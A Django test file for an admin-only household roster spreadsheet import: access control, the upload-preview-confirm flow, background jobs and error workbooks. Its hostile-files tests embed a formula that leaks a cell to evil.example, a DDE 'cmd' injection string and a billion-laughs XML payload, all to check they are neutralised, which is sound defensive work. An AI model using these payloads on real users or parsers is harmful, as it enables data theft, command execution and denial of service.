"""The roster import pages: admins only, upload -> preview -> confirm -> result, in the foreground or a job."""

import io
import os
import re
import time
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone, translation
from django.utils.html import escape
from openpyxl import load_workbook

from accounts.models import Role
from households import idnumbers, tasks
from households.models import Household, ImportBatch, Member
from households.roster import batches
from households.roster.issues import MESSAGES
from households.tests import roster_workbooks as rw
from households.tests.factories import UserFactory
from townaid import celery_app

pytestmark = pytest.mark.django_db
Status = ImportBatch.Status

# What the pages cost, whatever the number of batches and issues (listed in the tests that pin them).
UPLOAD_PAGE_QUERIES = 3
DETAIL_PAGE_QUERIES = 6


@pytest.fixture(autouse=True)
def media_root(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path


@pytest.fixture
def admin(db):
    return UserFactory(username="admin", role=Role.ADMIN)


@pytest.fixture
def batch(admin, dongfeng):
    return upload_batch(rw.workbook(rw.household()), admin)


def upload_batch(data: bytes, user, name="花名册.xlsx") -> ImportBatch:
    from django.core.files.base import ContentFile

    batch = batches.batch_receive(upload=ContentFile(data, name=name), original_name=name, user=user)
    batches.batch_start(batch, allow_background=False)
    return batch


def upload(client, data: bytes, name="花名册.xlsx", *, follow=False, **fields):
    return client.post(reverse("households:import"), {"file": SimpleUploadedFile(name, data), **fields}, follow=follow)


def urls(batch):
    return [
        reverse("households:import"),
        reverse("households:import-template") + "?lang=en",
        reverse("households:import-detail", args=[batch.pk]),
        reverse("households:import-apply", args=[batch.pk]),
        reverse("households:import-errors", args=[batch.pk]),
    ]


# ---------------------------------------------------------------- who may import


@pytest.mark.parametrize("who", ["alice", "official", "charlie", "helper"])
@pytest.mark.parametrize("method", ["get", "post"])
def test_only_administrators_reach_the_import_pages_everyone_else_gets_404(client, request, batch, who, method):
    client.force_login(request.getfixturevalue(who))
    for url in urls(batch):
        assert getattr(client, method)(url).status_code == 404, url
    assert batch.status == Status.READY
    assert not Household.objects.exists()


def test_a_superuser_reaches_the_import_pages(client, batch):
    client.force_login(UserFactory(is_superuser=True, is_staff=True))
    assert client.get(reverse("households:import")).status_code == 200
    assert client.get(reverse("households:import-detail", args=[batch.pk])).status_code == 200


def test_a_missing_batch_gives_404(client, admin):
    client.force_login(admin)
    assert client.get(reverse("households:import-detail", args=[987654])).status_code == 404


# ---------------------------------------------------------------- the flow in the foreground


def test_an_admin_uploads_previews_confirms_and_sees_the_result(client, english, admin, dongfeng):
    client.force_login(admin)
    response = upload(client, rw.workbook(rw.household() + rw.household()))
    batch = ImportBatch.objects.get()
    assert response.url == reverse("households:import-detail", args=[batch.pk])
    assert (batch.status, batch.uploaded_by, batch.original_name) == (Status.READY, admin, "花名册.xlsx")

    preview = client.get(response.url)
    assert "Confirm and apply" in preview.text
    assert preview.context["batch"].counts["households"]["created"] == 2
    assert not Household.objects.exists()

    result = client.post(reverse("households:import-apply", args=[batch.pk]), follow=True)
    batch.refresh_from_db()
    assert (batch.status, batch.confirmed_by) == (Status.APPLIED, admin)
    assert "Done: the roster has been applied." in result.text
    assert "Confirm and apply" not in result.text
    assert Household.objects.count() == 2


def test_applying_twice_is_refused_and_changes_nothing(client, admin, batch):
    client.force_login(admin)
    client.post(reverse("households:import-apply", args=[batch.pk]))
    client.post(reverse("households:import-apply", args=[batch.pk]))
    assert Member.objects.count() == 3
    assert ImportBatch.objects.get().status == Status.APPLIED


def test_apply_needs_a_post(client, admin, batch):
    client.force_login(admin)
    assert client.get(reverse("households:import-apply", args=[batch.pk])).status_code == 405


def test_a_file_with_errors_shows_them_and_no_confirm_button(client, english, admin, dongfeng):
    client.force_login(admin)
    response = upload(client, rw.workbook(rw.household(members=[rw.person(relation="儿子")])), follow=True)
    assert "Confirm and apply" not in response.text
    assert "is not one of the accepted values" in response.text
    assert "Download the workbook with the errors marked" in response.text
    assert ImportBatch.objects.get().status == Status.INVALID


def test_errors_are_listed_50_to_a_page(client, admin, dongfeng):
    rows = [row for _ in range(60) for row in rw.household(members=[rw.person(work_months=99)])]
    batch = upload_batch(rw.workbook(rows), admin)
    client.force_login(admin)
    url = reverse("households:import-detail", args=[batch.pk])
    first, last = client.get(url), client.get(url, {"page": 2})
    assert len(first.context["page"].object_list) == 50
    assert [issue.row for issue in last.context["page"].object_list] == list(range(52, 62))


def test_a_non_xlsx_name_is_refused_by_the_form(client, admin):
    client.force_login(admin)
    response = upload(client, b"a,b", name="roster.csv")
    assert response.status_code == 200
    assert response.context["form"].errors["file"]
    assert not ImportBatch.objects.exists()


def test_a_file_over_the_limit_is_refused_by_the_form_and_not_kept(client, admin, settings, dongfeng):
    settings.ROSTER_MAX_BYTES = 100
    client.force_login(admin)
    assert upload(client, rw.workbook(rw.household())).context["form"].errors["file"]
    assert not ImportBatch.objects.exists()


def test_a_renamed_file_is_kept_as_a_batch_that_says_it_is_no_workbook(client, english, admin):
    client.force_login(admin)
    page = upload(client, b"this is not a workbook", follow=True)
    assert ImportBatch.objects.get().status == Status.INVALID
    assert "This is not an Excel workbook (.xlsx)" in page.text
    assert "Download the workbook with the errors marked" not in page.text


def test_the_same_file_uploaded_twice_is_recognised(client, english, admin, dongfeng):
    data = rw.workbook(rw.household())
    client.force_login(admin)
    upload(client, data)
    page = upload(client, data, name="again.xlsx", follow=True)
    first, second = ImportBatch.objects.order_by("pk")
    assert first.sha256 == second.sha256
    assert page.context["earlier"] == first
    assert f"This very file was already uploaded on {timezone.localtime(first.uploaded_at):%Y-%m-%d}" in page.text


def test_uploading_an_applied_roster_again_says_there_is_nothing_to_change(client, english, admin, dongfeng):
    data = rw.workbook(rw.household())
    client.force_login(admin)
    upload(client, data)
    client.post(reverse("households:import-apply", args=[ImportBatch.objects.get().pk]))
    page = upload(client, data, follow=True)
    assert page.context["batch"].status == Status.UNCHANGED
    assert "Done: the registry already matches this roster, so there is nothing to change." in page.text
    assert "Confirm and apply" not in page.text
    assert "This very file was already uploaded on" in page.text


def test_a_named_worksheet_is_read(client, admin, dongfeng):
    data = rw.workbook(rw.household(), sheet_title="名单", prepare=lambda book: book.create_sheet("说明", 0))
    client.force_login(admin)
    upload(client, data, sheet_name="名单")
    assert ImportBatch.objects.get().status == Status.READY


# ---------------------------------------------------------------- downloads


def test_the_marked_workbook_has_each_bad_cell_red_with_its_reason_as_a_comment(client, english, admin, dongfeng):
    rows = rw.household(members=[rw.person(), rw.person("配偶", gender=idnumbers.FEMALE, work_months=13)])
    batch = upload_batch(rw.workbook(rows, title_rows=["花名册"]), admin)
    client.force_login(admin)
    response = client.get(reverse("households:import-errors", args=[batch.pk]))
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    book = load_workbook(io.BytesIO(response.content))
    sheet = book["花名册"]
    bad = sheet["P4"]  # work months of the second person: title row, header row, two people
    assert bad.value == 13
    assert bad.fill.start_color.rgb.endswith("FFC7CE")
    assert "13 is outside 0-12." in bad.comment.text
    assert sheet["P3"].comment is None
    assert sheet["D3"].value == rows[0]["name"]
    listing = book["Errors"]
    assert [cell.value for cell in listing[2]] == [4, "P", "务工时间（月）", "13 is outside 0-12."]


@pytest.mark.parametrize(("lang", "header", "relation"), [("zh", "证件号码", "户主"), ("en", "id number", "head")])
def test_the_template_has_a_title_the_headers_an_example_household_and_the_values(
    client, admin, lang, header, relation
):
    client.force_login(admin)
    response = client.get(reverse("households:import-template"), {"lang": lang})
    assert f"roster-template-{lang}.xlsx" in response["Content-Disposition"]
    book = load_workbook(io.BytesIO(response.content))
    roster, values = book.worksheets
    headers = [cell.value for cell in roster[2]]
    assert header in headers
    people = [[cell.value for cell in row] for row in roster.iter_rows(min_row=3, max_row=5)]
    ids = [person[headers.index(header)] for person in people]
    assert [idnumbers.parse(number).sex for number in ids] == ["male", "female", "male"]
    assert people[0][headers.index("与户主关系" if lang == "zh" else "relation")] == relation
    assert values.max_row > 24


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_the_filled_in_template_imports_without_an_error(client, admin, dongfeng, lang):
    client.force_login(admin)
    data = client.get(reverse("households:import-template"), {"lang": lang}).content
    batch = upload_batch(data, admin)
    assert batch.status == Status.READY, list(batch.issues.values_list("code", "params"))
    assert batch.counts["members"]["created"] == 3


def test_an_unknown_template_language_gives_the_chinese_one(client, admin):
    client.force_login(admin)
    assert (
        "roster-template-zh.xlsx"
        in client.get(reverse("households:import-template"), {"lang": "fr"})["Content-Disposition"]
    )


# ---------------------------------------------------------------- query counts


def test_the_upload_page_runs_a_fixed_number_of_queries(client, admin, dongfeng, django_assert_num_queries):
    upload_batch(rw.workbook(rw.household()), admin)
    client.force_login(admin)
    # 1 session, 2 user, 3 the recent batches with their uploaders and confirmers
    with django_assert_num_queries(UPLOAD_PAGE_QUERIES):
        assert client.get(reverse("households:import")).status_code == 200
    for _ in range(4):
        upload_batch(rw.workbook(rw.household()), UserFactory(role=Role.ADMIN))
    with django_assert_num_queries(UPLOAD_PAGE_QUERIES):
        response = client.get(reverse("households:import"))
    assert len(response.context["recent"]) == 5


def test_the_detail_page_runs_a_fixed_number_of_queries(client, admin, dongfeng, django_assert_num_queries):
    few = upload_batch(rw.workbook(rw.household(members=[rw.person(work_months=99)])), admin)
    many = upload_batch(
        rw.workbook([r for _ in range(80) for r in rw.household(members=[rw.person(work_months=99)])]), admin
    )
    client.force_login(admin)
    # 1 session, 2 user, 3 the batch with its uploader and confirmer, 4 the number of issues (paginator),
    # 5 the page of issues, 6 an earlier upload of the same file with its uploader
    for batch in (few, many):
        with django_assert_num_queries(DETAIL_PAGE_QUERIES):
            response = client.get(reverse("households:import-detail", args=[batch.pk]), {"page": 2})
        assert response.status_code == 200


# ---------------------------------------------------------------- large files: a job with a progress bar


@pytest.fixture
def background(settings):
    settings.ROSTER_BACKGROUND_ROWS = 2


def test_a_large_file_is_checked_and_applied_by_jobs_while_the_page_shows_progress(
    client, english, admin, dongfeng, background, django_capture_on_commit_callbacks
):
    client.force_login(admin)
    with django_capture_on_commit_callbacks() as queued:
        upload(client, rw.workbook(rw.household() + rw.household()))
    batch = ImportBatch.objects.get()
    assert (batch.status, batch.background, batch.rows_total, len(queued)) == (Status.QUEUED, True, 7, 1)

    waiting = client.get(reverse("households:import-detail", args=[batch.pk]))
    assert waiting["Refresh"] == "2"
    assert '<meta http-equiv="refresh" content="2">' in waiting.text
    assert "<progress" in waiting.text
    assert "This page refreshes itself and says when it is done." in waiting.text

    assert tasks.validate_roster.apply(args=[batch.pk]).get()["status"] == Status.READY
    checked = client.get(reverse("households:import-detail", args=[batch.pk]))
    assert "Refresh" not in checked
    assert "Done checking: the file has no errors." in checked.text
    batch.refresh_from_db()
    assert (batch.rows_done, batch.rows_total) == (7, 7)

    with django_capture_on_commit_callbacks() as queued:
        client.post(reverse("households:import-apply", args=[batch.pk]))
    assert (ImportBatch.objects.get().status, len(queued), Household.objects.count()) == (Status.APPLY_QUEUED, 1, 0)
    assert "Applying the roster" in client.get(reverse("households:import-detail", args=[batch.pk])).text

    assert tasks.apply_roster.apply(args=[batch.pk]).get()["status"] == Status.APPLIED
    assert tasks.apply_roster.apply(args=[batch.pk]).get() == {"batch": batch.pk, "skipped": Status.APPLIED}
    assert tasks.validate_roster.apply(args=[batch.pk]).get() == {"batch": batch.pk, "skipped": Status.APPLIED}
    assert (Household.objects.count(), Member.objects.count()) == (2, 6)
    done = client.get(reverse("households:import-detail", args=[batch.pk]))
    assert "Done: the roster has been applied." in done.text


def test_the_job_records_progress_as_it_reads(admin, dongfeng, background, monkeypatch):
    monkeypatch.setattr(batches, "PROGRESS_EVERY", 2)
    batch = batches.batch_receive(
        upload=SimpleUploadedFile("r.xlsx", rw.workbook(rw.household() * 2)), original_name="r.xlsx", user=admin
    )
    assert batches.batch_start(batch)
    seen = []
    read = batches.read

    def read_and_watch(file, *, sheet_name="", on_row=None):
        def watch(number):
            on_row(number)
            seen.append(ImportBatch.objects.get(pk=batch.pk).rows_done)

        return read(file, sheet_name=sheet_name, on_row=watch)

    monkeypatch.setattr(batches, "read", read_and_watch)
    tasks.validate_roster.apply(args=[batch.pk])
    assert seen == [2, 2, 4, 4, 6, 6]  # rows 2-7 read; every second row number written down for the progress bar
    batch.refresh_from_db()
    assert (batch.rows_done, batch.rows_total, batch.progress_percent) == (7, 7, 100)


# ---------------------------------------------------------------- a dead broker


@pytest.fixture
def dead_broker(settings):
    """The broker is a closed port: enqueueing fails at once (CELERY_BROKER_* settings), it never hangs."""
    url = "redis://127.0.0.1:1/0"
    previous = os.environ.get("CELERY_BROKER_URL")
    os.environ["CELERY_BROKER_URL"] = url
    settings.CELERY_BROKER_URL = url
    celery_app._pool = None
    celery_app.amqp._producer_pool = None
    yield url
    if previous is None:
        del os.environ["CELERY_BROKER_URL"]
    else:
        os.environ["CELERY_BROKER_URL"] = previous
    celery_app._pool = None
    celery_app.amqp._producer_pool = None


@pytest.mark.django_db(transaction=True)
def test_with_the_broker_down_the_upload_fails_fast_and_says_so(client, english, dongfeng, background, dead_broker):
    admin = UserFactory(role=Role.ADMIN)
    client.force_login(admin)
    started = time.monotonic()
    page = upload(client, rw.workbook(rw.household()), follow=True)
    assert time.monotonic() - started < 2
    batch = ImportBatch.objects.get()
    assert batch.status == Status.FAILED
    assert batch.failure
    assert "The background worker cannot be reached just now" in page.text


@pytest.mark.django_db(transaction=True)
def test_with_the_broker_down_confirming_fails_fast_and_the_batch_may_be_confirmed_later(
    client, english, dongfeng, background, dead_broker
):
    admin = UserFactory(role=Role.ADMIN)
    from django.core.files.base import ContentFile

    batch = batches.batch_receive(upload=ContentFile(rw.workbook(rw.household())), original_name="r.xlsx", user=admin)
    batch.background, batch.status = True, Status.QUEUED
    batch.save()
    batches.batch_validate(batch)
    client.force_login(admin)
    started = time.monotonic()
    page = client.post(reverse("households:import-apply", args=[batch.pk]), follow=True)
    assert time.monotonic() - started < 2
    batch.refresh_from_db()
    assert (batch.status, bool(batch.failure)) == (Status.READY, True)
    assert "Confirm and apply" in page.text
    assert "The background worker could not be reached, so nothing was applied." in page.text
    assert not Household.objects.exists()


# ---------------------------------------------------------------- hostile files


def test_formulas_in_the_upload_come_back_in_the_marked_workbook_as_inert_text_still_marked_red(
    client, english, admin, dongfeng
):
    link = '=HYPERLINK("http://evil.example/steal?d="&E2,"click")'
    command = "=cmd|' /C calc'!A0"

    def text_that_looks_like_a_formula(sheet):
        sheet.cell(row=2, column=26, value=command).data_type = "s"  # typed as text (Excel's leading ')

    rows = rw.household(members=[rw.person(name=link)])
    batch = upload_batch(rw.workbook(rows, finish=text_that_looks_like_a_formula), admin)
    assert batch.status == Status.INVALID
    client.force_login(admin)
    response = client.get(reverse("households:import-errors", args=[batch.pk]))
    parts = zipfile.ZipFile(io.BytesIO(response.content))
    assert not re.search(rb"<(\w+:)?f[ >]", parts.read("xl/worksheets/sheet1.xml"))  # no formula anywhere
    sheet = load_workbook(io.BytesIO(response.content))["花名册"]
    assert (sheet["D2"].data_type, sheet["D2"].value) == ("s", "'" + link)
    assert sheet["D2"].fill.start_color.rgb.endswith("FFC7CE")
    assert "formulas are not evaluated" in sheet["D2"].comment.text
    assert (sheet["Z2"].data_type, sheet["Z2"].value) == ("s", "'" + command)
    assert sheet["E2"].value == rows[0]["id_number"]  # everything else as it was


def test_the_marked_workbook_keeps_the_row_numbers_of_rows_after_a_gap(client, english, admin, dongfeng):
    bad = rw.household(members=[rw.person(work_months=13)])
    batch = upload_batch(rw.workbook([*rw.household(), *[None] * 400, *bad]), admin)
    client.force_login(admin)
    sheet = load_workbook(io.BytesIO(client.get(reverse("households:import-errors", args=[batch.pk])).content))[
        "花名册"
    ]
    assert sheet["P405"].value == 13
    assert "13 is outside 0-12." in sheet["P405"].comment.text


def test_a_file_whose_dimension_understates_its_size_is_still_checked_in_the_background(
    client, admin, dongfeng, background, django_capture_on_commit_callbacks
):
    data = rw.with_dimension(rw.workbook(rw.household() + rw.household() + rw.household()), "A1:X2")
    client.force_login(admin)
    with django_capture_on_commit_callbacks() as queued:
        upload(client, data)
    batch = ImportBatch.objects.get()
    assert (batch.status, batch.background, batch.rows_total, len(queued)) == (Status.QUEUED, True, 10, 1)
    tasks.validate_roster.apply(args=[batch.pk])
    batch.refresh_from_db()
    assert (batch.status, batch.counts["rows"], batch.counts["households"]["created"]) == (Status.READY, 9, 3)


def test_a_hostile_upload_is_refused_in_the_users_language_without_the_exception_or_a_path(
    client, admin, dongfeng, settings
):
    laughs = b'<!DOCTYPE worksheet [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
    data = rw.with_sheet(rw.workbook(rw.household()), lambda xml: laughs + xml)
    client.force_login(admin)  # in Chinese, the site's language
    page = upload(client, data, follow=True)
    batch = ImportBatch.objects.get()
    assert batch.status == Status.INVALID
    assert list(batch.issues.values_list("code", "params")) == [("unsafe_xml", {})]
    with translation.override("zh-hans"):
        assert escape(str(MESSAGES["unsafe_xml"])) in page.text
    for leak in ("Entities", "Forbidden", "ValueError", "Unable to read", str(settings.MEDIA_ROOT), batch.file.name):
        assert leak not in page.text


# ---------------------------------------------------------------- at most ROSTER_MAX_ISSUES issues kept


@pytest.fixture
def nine_issues(dongfeng):
    """A roster of 8 households whose heads all work 13 months (8 errors), with a column not in the format."""
    columns, headers = [*rw.ALL, "note"], [*(rw.ZH[key] for key in rw.ALL), "备注"]
    rows = [row for _ in range(8) for row in rw.household(members=[rw.person(work_months=13)])]
    return rw.workbook(rows, columns=columns, headers=headers)


def test_only_the_first_issues_are_kept_and_the_page_says_how_many_more_there_are(
    client, english, admin, settings, nine_issues
):
    settings.ROSTER_MAX_ISSUES = 5
    batch = upload_batch(nine_issues, admin)
    assert (batch.status, batch.error_count, batch.warning_count) == (Status.INVALID, 8, 1)
    assert [(issue.row, issue.code) for issue in batch.issues.all()] == [(row, "out_of_range") for row in range(2, 7)]
    assert batch.counts["unlisted"] == {"errors": 3, "warnings": 1}
    client.force_login(admin)
    page = client.get(reverse("households:import-detail", args=[batch.pk])).text
    assert "Done: the file has errors (8); nothing was changed." in page
    assert "…and 3 more errors not listed." in page
    assert "…and 1 more warnings not listed." in page
    listing = load_workbook(io.BytesIO(client.get(reverse("households:import-errors", args=[batch.pk])).content))
    reasons = [row[3] for row in listing["Errors"].iter_rows(values_only=True)]
    assert reasons[-2:] == ["…and 3 more errors not listed.", "…and 1 more warnings not listed."]


def test_under_the_limit_every_issue_is_kept_and_nothing_is_said_about_more(client, english, admin, nine_issues):
    batch = upload_batch(nine_issues, admin)
    assert batch.issues.count() == 9
    assert batch.counts["unlisted"] == {"errors": 0, "warnings": 0}
    client.force_login(admin)
    assert "not listed" not in client.get(reverse("households:import-detail", args=[batch.pk])).text


def test_the_page_of_a_batch_being_applied_shows_how_many_people_are_written(client, english, admin, batch):
    ImportBatch.objects.filter(pk=batch.pk).update(status=ImportBatch.Status.APPLYING)
    batches._told(batch)(2000, 5000)
    client.force_login(admin)

    page = client.get(reverse("households:import-detail", args=[batch.pk]))

    assert "Written 2000 of 5000 people." in page.content.decode()
    assert page["Refresh"]


def test_the_written_count_is_forgotten_once_the_batch_is_applied(admin, batch):
    batches.batch_confirm(batch, user=admin)
    batch.refresh_from_db()
    assert batch.status == ImportBatch.Status.APPLIED
    assert batches.apply_progress(batch) is None
